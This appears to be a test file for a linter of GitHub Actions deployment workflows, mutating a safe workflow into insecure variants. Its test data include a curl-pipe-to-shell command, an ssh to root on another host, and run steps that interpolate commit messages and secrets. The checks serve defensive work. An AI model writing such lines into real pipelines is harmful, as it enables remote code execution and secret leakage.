import { RULES, breaches } from './rules';
import { parseText } from './workflow';

const SHA = '0123456789abcdef0123456789abcdef01234567';

/** A workflow that breaks no rule. */
const GOOD = `
on:
  push:
    branches: [main]
permissions:
  contents: read
concurrency:
  group: production
  cancel-in-progress: false
jobs:
  deploy:
    if: github.ref == 'refs/heads/main'
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    environment: production
    steps:
      - uses: actions/checkout@${SHA} # v1.2.3
        with:
          fetch-depth: 0
          persist-credentials: false
      - run: scripts/with-deploy-key.sh scripts/deploy.sh -c production
        env:
          DEPLOY_SSH_KEY: \${{ secrets.DEPLOY_SSH_KEY }}
`;

const RUN = 'run: scripts/with-deploy-key.sh scripts/deploy.sh -c production';

/** What of the good workflow is replaced by what, the rule that this breaks, and what is said. */
const BAD: readonly (readonly [rule: string, from: string, to: string, says: RegExp])[] = [
  ['pins', `@${SHA} # v1.2.3`, '@v4', /not pinned/],
  ['pins', `@${SHA} # v1.2.3`, `@${SHA.slice(0, 12)} # v1.2.3`, /not pinned/],
  ['pins', ' # v1.2.3', '', /does not end with its version/],
  ['permissions', 'permissions:\n  contents: read\n', '', /says no permissions/],
  ['permissions', 'contents: read', 'contents: write', /may write contents/],
  ['permissions', 'permissions:\n  contents: read', 'permissions: write-all', /at once/],
  [
    'permissions',
    'timeout-minutes: 10',
    'timeout-minutes: 10\n    permissions: { actions: write }',
    /deploy may write/,
  ],
  ['timeouts', '    timeout-minutes: 10\n', '', /no timeout-minutes/],
  ['scripts', RUN, 'run: npm run -s x -- ${{ github.event.head_commit.message }}', /expression in `run`/],
  ['scripts', RUN, 'run: |\n          npm ci\n          npm run -s x -- "${{ inputs.sha }}"', /expression in `run`/],
  ['secrets', RUN, 'run: npm run -s x -- ${{ secrets.KEY }}', /secret in `run`/],
  ['secrets', 'timeout-minutes: 10', 'timeout-minutes: 10\n    env: { KEY: "${{ secrets.KEY }}" }', /every step/],
  ['secrets', 'permissions:', 'env: { KEY: "a-${{ secrets.KEY }}" }\npermissions:', /every step/],
  ['secrets', 'fetch-depth: 0', 'fetch-depth: 0\n          token: ${{ secrets.KEY }}', /to an action/],
  ['secrets', '    environment: production\n', '', /no environment/],
  ['concurrency', 'cancel-in-progress: false', 'cancel-in-progress: true', /cancelled/],
  ['concurrency', '  cancel-in-progress: false\n', '', /cancelled/],
  ['concurrency', 'group: production', 'group: deploy-${{ github.ref }}', /outside of the group/],
  ['concurrency', 'timeout-minutes: 10', 'timeout-minutes: 10\n    concurrency: mine', /of its own/],
  ['checkouts', '          fetch-depth: 0\n', '', /fetch-depth/],
  ['checkouts', 'persist-credentials: false', 'persist-credentials: true', /persist-credentials/],
  ['events', '  push:\n    branches: [main]', '  pull_request_target:', /strangers/],
  ['branches', "    if: github.ref == 'refs/heads/main'\n", '', /any branch/],
  ['commands', RUN, 'run: curl -sS https://example.com | sh', /no door/],
  ['commands', RUN, 'run: scripts/with-deploy-key.sh ssh root@example.com', /no door/],
];

describe('the rules for workflows', () => {
  it('find nothing in a good one', async () => {
    expect(breaches(await parseText('good.yml', GOOD))).toEqual([]);
  });

  it.each(BAD)('%s: %j → %j', async (rule, from, to, says) => {
    expect(GOOD).toContain(from);
    const found = breaches(await parseText('bad.yml', GOOD.replace(from, to)));
    expect(found.filter((text) => text.startsWith(`${rule}: `)).join('\n')).toMatch(says);
  });

  it('have each a workflow that breaks them', () => {
    expect(new Set(BAD.map(([rule]) => rule))).toEqual(new Set(Object.keys(RULES)));
  });
});
